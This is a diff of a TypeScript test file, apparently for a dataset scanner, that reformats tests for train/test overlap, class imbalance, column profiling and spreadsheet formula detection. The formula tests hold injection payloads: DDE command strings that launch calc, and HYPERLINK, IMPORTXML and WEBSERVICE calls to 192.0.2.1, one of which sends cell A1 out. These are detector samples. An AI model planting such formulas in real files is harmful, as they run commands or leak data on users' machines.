@@ -73,16 +73,27 @@ describe('train and test', () => {
   });
 
   test('are the same rows whatever the order of columns, the format of numbers and the numbering', async () => {
-    const train = write('train-c.csv', rows(100).map((line, index) => [index + 1, ...line]), ['id', ...header]);
+    const train = write(
+      'train-c.csv',
+      rows(100).map((line, index) => [index + 1, ...line]),
+      ['id', ...header],
+    );
     const other = rows(40).map(([a, b, c, label], index) => [label ?? '', `${c}.0`, ` ${a}`, b ?? '', 900 + index]);
     const overlap = await compare(train, write('test-c.csv', other, ['Label', 'C', 'A', 'B', 'ID']));
     expect(finding(overlap, 'DATA-OVL-001')?.detail).toMatch(/^40 test rows of 40 \(100 %\)/);
   });
 
   test('of different formats are compared', async () => {
-    const train = await writeParquet(join(folder.path, 'train.parquet'), "SELECT 'v' || i AS a, i * 3 AS b, i % 11 AS c FROM range(50) AS r(i)");
+    const train = await writeParquet(
+      join(folder.path, 'train.parquet'),
+      "SELECT 'v' || i AS a, i * 3 AS b, i % 11 AS c FROM range(50) AS r(i)",
+    );
     const { analyseOverlap } = await import('./analyse.ts');
-    const test = write('test-d.csv', rows(10).map((line) => line.slice(0, 3)), header.slice(0, 3));
+    const test = write(
+      'test-d.csv',
+      rows(10).map((line) => line.slice(0, 3)),
+      header.slice(0, 3),
+    );
     const options = { signal: new AbortController().signal, onProgress: () => {} };
     const overlap = await analyseOverlap({ path: train, kind: 'parquet' }, { path: test, kind: 'csv' }, options);
     expect(finding(overlap, 'DATA-OVL-001')?.detail).toMatch(/^10 test rows of 10/);
@@ -101,13 +112,39 @@ describe('train and test', () => {
 
 describe('classes', () => {
   const labelled = (...counts: [string, number][]) =>
-    counts.flatMap(([label, count], group) => Array.from({ length: count }, (_, index) => [`w${group}-${index}`, index * 7 + group, index % 11, label]));
+    counts.flatMap(([label, count], group) =>
+      Array.from({ length: count }, (_, index) => [`w${group}-${index}`, index * 7 + group, index % 11, label]),
+    );
 
   test.each([
-    [[['a', 100], ['b', 40]], undefined],
-    [[['a', 100], ['b', 33]], 'low'],
-    [[['a', 300], ['b', 30]], 'medium'],
-    [[['a', 500], ['b', 5]], 'high'],
+    [
+      [
+        ['a', 100],
+        ['b', 40],
+      ],
+      undefined,
+    ],
+    [
+      [
+        ['a', 100],
+        ['b', 33],
+      ],
+      'low',
+    ],
+    [
+      [
+        ['a', 300],
+        ['b', 30],
+      ],
+      'medium',
+    ],
+    [
+      [
+        ['a', 500],
+        ['b', 5],
+      ],
+      'high',
+    ],
   ] as [[string, number][], string | undefined][])('of %j are %s', async (counts, severity) => {
     const found = finding(await scan(write('classes.csv', labelled(...counts))), 'DATA-IMB-001');
     expect(found?.severity).toBe(severity);
@@ -121,7 +158,11 @@ describe('classes', () => {
 
 describe('columns', () => {
   const table = (make: (index: number) => string | number, name = 'odd') =>
-    write(`${name}.csv`, rows(60).map((line, index) => [make(index), ...line]), [name, ...header]);
+    write(
+      `${name}.csv`,
+      rows(60).map((line, index) => [make(index), ...line]),
+      [name, ...header],
+    );
 
   test.each([
     ['DATA-PROF-001', () => 'EU'],
@@ -143,8 +184,8 @@ describe('formulas', () => {
   test.each([
     ['=1+1', 'medium'],
     ['=HYPERLINK("http://192.0.2.1","x")', 'high'],
-    ['@SUM(1+9)*cmd|\'/c calc\'!A0', 'high'],
-    ['+cmd|\' /c calc\'!A0', 'high'],
+    ["@SUM(1+9)*cmd|'/c calc'!A0", 'high'],
+    ["+cmd|' /c calc'!A0", 'high'],
     ['-IMPORTXML(CONCAT("http://192.0.2.1/",A1),"//a")', 'high'],
     ['\t=WEBSERVICE("http://192.0.2.1")', 'high'],
   ])('like %j are %s', async (value, severity) => {
